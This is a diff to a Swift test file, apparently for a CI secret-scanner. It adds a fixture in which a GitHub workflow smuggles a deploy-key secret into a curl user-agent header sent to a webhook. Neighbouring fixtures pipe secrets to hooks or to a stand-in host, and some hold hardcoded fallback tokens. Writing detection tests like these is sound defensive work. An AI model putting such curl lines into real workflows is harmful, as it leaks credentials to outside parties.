@@ -189,6 +189,7 @@ import Testing
         Example(".github/workflows/r.yml", "env:\n  HOOK: ${{ secrets.SLACK_WEBHOOK_URL }}\nrun: curl -X POST -d '{\"text\":\"ok\"}' \"$HOOK\"\n", nil),
         Example(".github/workflows/r.yml", "env:\n  HOOK: ${{ secrets.SLACK_WEBHOOK_URL }}\nrun: curl -X POST \"https://x.example.org/?to=$HOOK\"\n", "ci.secrets-exfiltration"),
         Example(".github/workflows/r.yml", "run: echo \"${{ secrets.DEPLOY_KEY }}\" | curl --data-binary @- \"${{ secrets.HOOK }}\"\n", "ci.secrets-exfiltration"),
+        Example(".github/workflows/r.yml", "run: curl --url-query \"k=1\" -A \"${{ secrets.DEPLOY_KEY }}\" \"${{ secrets.HOOK }}\"\n", "ci.secrets-exfiltration"),
         Example("backup.sh", "export PGPASSWORD=\"${PGPASSWORD:-Jy7nBSe2kJOvKq}\"\n", "secret.env-default"),
         Example("config.rb", "token = ENV.fetch(\"DEPLOYTOKEN\", \"Kq8Wz3Xr6Tb1Nm4V\")\n", "secret.env-default"),
         Example("app.ts", "const t = process.env.PAGETOKEN ?? \"Kq8Wz3Xr6Tb1Nm4V\";\n", nil),
